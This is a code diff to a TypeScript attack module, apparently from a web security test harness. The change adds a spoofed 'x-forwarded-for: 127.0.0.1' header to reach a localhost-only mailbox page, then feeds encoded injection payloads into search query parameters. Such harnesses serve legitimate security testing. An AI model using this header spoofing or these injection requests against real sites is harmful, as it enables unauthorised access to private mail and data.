@@ -28,9 +28,9 @@ export const attack: Attack = {
     await target.settled();
     const home = (await target.ask(SITE, '/')).text;
     const linked = [...home.matchAll(/href="(\/[a-z][^"#?]*)"/g)].map(([, href = '']) => href);
-    const letters = [...(await target.ask(SITE, '/__mail')).text.matchAll(/href="(\/__mail\/[^"]+)"/g)].map(
-      ([, href = '']) => href,
-    );
+    // Only the machine itself may look into it.
+    const mailbox = await target.ask(SITE, '/__mail', { headers: { 'x-forwarded-for': '127.0.0.1' } });
+    const letters = [...mailbox.text.matchAll(/href="(\/__mail\/[^"]+)"/g)].map(([, href = '']) => href);
     const typed = PAYLOADS.map((one) => encodeURIComponent(one)).flatMap((one) => [
       `/search/used-cars?query=${one}`,
       `/search/used-cars?refinementList[make][]=${one}&refinementList[model][]=${one}`,
